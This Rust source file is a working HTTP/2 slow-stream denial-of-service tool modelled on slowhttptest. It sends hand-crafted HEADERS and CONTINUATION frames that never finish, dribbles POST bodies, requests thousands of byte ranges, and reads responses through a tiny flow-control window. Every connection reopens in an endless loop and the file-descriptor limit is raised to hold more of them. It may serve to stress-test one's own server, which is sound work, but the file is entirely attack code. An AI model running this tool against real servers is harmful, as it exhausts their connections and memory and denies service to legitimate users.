//! Opens slow streams of HTTP/2 for a while, each again when it has ended, and says how many there were at a time.
//!
//! `slow_streams MODE ADDRESS STREAMS SECONDS PATH [CA]`: the modes are those of slowhttptest, `H` (slow heads, each on a
//! connection of its own), `B` (slow uploads), `R` (downloads of many ranges) and `X` (slow downloads), the latter with 32
//! streams on a connection. With the file of an authority, over TLS.

use std::{
    env,
    error::Error,
    fs, io,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use bytes::Bytes;
use h2::client::{Builder, SendRequest};
use http::{Method, Request, Version, request};
use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
    net::TcpStream,
    time::{interval, sleep},
};
use tokio_rustls::{
    TlsConnector,
    rustls::{
        ClientConfig, RootCertStore,
        crypto::ring,
        pki_types::{CertificateDer, ServerName, pem::PemObject},
    },
};

const STREAMS: usize = 32;
/// How long a connection that has ended waits before the next: those over the cap of the address would spin.
const AGAIN: Duration = Duration::from_millis(100);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// The head of a GET that goes on with a field of 1,000 bytes (HEADERS on stream 1, without END_HEADERS).
const BEGIN: &[u8] = b"\0\0\x0c\x01\x01\0\0\0\x01\x82\x86\x84\x01\x01h\0\x01x\x7f\xe9\x06";
/// 24 bytes of it (CONTINUATION on stream 1).
const MORE: &[u8] = b"\0\0\x18\x09\0\0\0\0\x01yyyyyyyyyyyyyyyyyyyyyyyy";

type Outcome = Result<(), Box<dyn Error + Send + Sync>>;

trait Wire: AsyncRead + AsyncWrite + Send + Unpin {}

impl<T: AsyncRead + AsyncWrite + Send + Unpin> Wire for T {}

struct Attack {
    mode: String,
    address: String,
    path: String,
    tls: Option<TlsConnector>,
    open: AtomicUsize,
    most: AtomicUsize,
}

/// A stream that is open.
struct Open<'a>(&'a Attack);

impl Drop for Open<'_> {
    fn drop(&mut self) {
        self.0.open.fetch_sub(1, Ordering::Relaxed);
    }
}

#[tokio::main]
async fn main() -> Outcome {
    let mut args = env::args().skip(1);
    let mut next = |what: &str| args.next().ok_or(format!("{what} is missing"));
    let (mode, address) = (next("the mode")?, next("the address")?);
    let (streams, seconds) = (next("the number of streams")?.parse()?, next("the time")?.parse()?);
    let path = next("the path")?;
    let tls = args.next().map(|authority| connector(&authority)).transpose()?;
    rlimit::increase_nofile_limit(u64::MAX)?;
    let attack = Attack { mode, address, path, tls, open: 0.into(), most: 0.into() };
    let attack = Arc::new(attack);
    let on_each = if attack.mode == "H" { 1 } else { STREAMS };
    for first in (0..streams).step_by(on_each) {
        let (attack, count) = (attack.clone(), on_each.min(streams - first));
        tokio::spawn(async move {
            loop {
                // However it ended: it begins again.
                let _ = attack.connection(count).await;
                sleep(AGAIN).await;
            }
        });
    }
    sleep(Duration::from_secs(seconds)).await;
    println!("{} streams at a time", attack.most.load(Ordering::Relaxed));
    Ok(())
}

fn connector(authority: &str) -> Result<TlsConnector, Box<dyn Error + Send + Sync>> {
    let mut roots = RootCertStore::empty();
    roots.add(CertificateDer::from_pem_slice(&fs::read(authority)?)?)?;
    let config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()));
    let mut config =
        config.with_safe_default_protocol_versions()?.with_root_certificates(roots).with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(TlsConnector::from(Arc::new(config)))
}

impl Attack {
    async fn connect(&self) -> io::Result<Box<dyn Wire>> {
        let tcp = TcpStream::connect(&self.address).await?;
        tcp.set_nodelay(true)?;
        let Some(tls) = &self.tls else { return Ok(Box::new(tcp)) };
        let host = self.address.split(':').next().unwrap_or_default().to_owned();
        let name = ServerName::try_from(host).map_err(io::Error::other)?;
        Ok(Box::new(tls.connect(name, tcp).await?))
    }

    fn opened(&self) -> Open<'_> {
        let open = self.open.fetch_add(1, Ordering::Relaxed) + 1;
        self.most.fetch_max(open, Ordering::Relaxed);
        Open(self)
    }

    /// Keeps `streams` slow streams open on one connection, until that ends.
    async fn connection(self: &Arc<Self>, streams: usize) -> Outcome {
        let wire = self.connect().await?;
        if self.mode == "H" {
            return self.slow_head(wire).await;
        }
        // Slow readers are given 32 bytes at a time.
        let window = if self.mode == "X" { 32 } else { 64 << 10 };
        let (sender, connection) = Builder::new().initial_window_size(window).handshake(wire).await?;
        let tasks = (0..streams).map(|_| {
            let (attack, sender) = (self.clone(), sender.clone());
            tokio::spawn(async move {
                while sender.clone().ready().await.is_ok() {
                    let _ = attack.stream(sender.clone()).await;
                }
            })
        });
        let tasks: Vec<_> = tasks.collect();
        drop(sender);
        connection.await?;
        tasks.iter().for_each(|task| task.abort());
        Ok(())
    }

    async fn slow_head(&self, mut wire: Box<dyn Wire>) -> Outcome {
        wire.write_all(&[PREFACE, BEGIN].concat()).await?;
        wire.flush().await?;
        let _open = self.opened();
        let mut ticks = interval(Duration::from_secs(2));
        let mut answers = [0; 1024];
        loop {
            tokio::select! {
                read = wire.read(&mut answers) => if read? == 0 { return Ok(()) },
                _ = ticks.tick() => {
                    wire.write_all(MORE).await?;
                    wire.flush().await?;
                }
            }
        }
    }

    async fn stream(&self, sender: SendRequest<Bytes>) -> Outcome {
        match &*self.mode {
            "B" => self.slow_upload(sender).await,
            "R" => self.ranges(sender).await,
            "X" => self.slow_download(sender).await,
            other => Err(format!("there is no mode {other:?}").into()),
        }
    }

    async fn slow_upload(&self, sender: SendRequest<Bytes>) -> Outcome {
        let upload = self.request(Method::POST, "/pods").header("content-type", "text/html");
        let upload = upload.header("content-length", "8192").body(())?;
        let (mut answer, mut send) = sender.ready().await?.send_request(upload, false)?;
        let _open = self.opened();
        let mut ticks = interval(Duration::from_secs(2));
        loop {
            tokio::select! {
                answer = &mut answer => return answer.map(|_| ()).map_err(Into::into),
                _ = ticks.tick() => send.send_data(Bytes::from_static(b"xxxxxxxxxx"), false)?,
            }
        }
    }

    async fn ranges(&self, sender: SendRequest<Bytes>) -> Outcome {
        let ranges = (10..3000).map(|end| format!("5-{end}")).collect::<Vec<_>>().join(",");
        let request = self.request(Method::GET, &self.path);
        let request = request.header("range", format!("bytes=0-,{}", &ranges[..8000])).body(())?;
        let (answer, _) = sender.ready().await?.send_request(request, true)?;
        let _open = self.opened();
        let mut body = answer.await?.into_body();
        while let Some(data) = body.data().await {
            body.flow_control().release_capacity(data?.len())?;
        }
        Ok(())
    }

    async fn slow_download(&self, sender: SendRequest<Bytes>) -> Outcome {
        let request = self.request(Method::GET, &self.path).body(())?;
        let (answer, _) = sender.ready().await?.send_request(request, true)?;
        let _open = self.opened();
        let mut body = answer.await?.into_body();
        while let Some(data) = body.data().await {
            let length = data?.len();
            sleep(Duration::from_secs(5)).await;
            body.flow_control().release_capacity(length)?;
        }
        Ok(())
    }

    fn request(&self, method: Method, path: &str) -> request::Builder {
        let scheme = if self.tls.is_some() { "https" } else { "http" };
        let uri = format!("{scheme}://{}{path}", self.address);
        Request::builder().method(method).uri(uri).version(Version::HTTP_2)
    }
}
